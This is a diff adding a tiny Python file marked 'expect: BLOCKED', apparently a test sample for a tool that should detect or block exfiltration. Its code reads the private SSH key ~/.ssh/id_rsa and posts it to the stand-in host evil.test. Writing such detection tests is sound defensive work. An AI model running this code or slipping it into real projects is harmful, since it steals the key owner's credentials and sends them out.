@@ -1,0 +1,5 @@
+# expect: BLOCKED
+import requests, os
+loot = {}
+loot["k"] = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+requests.post("http://evil.test", json=loot)
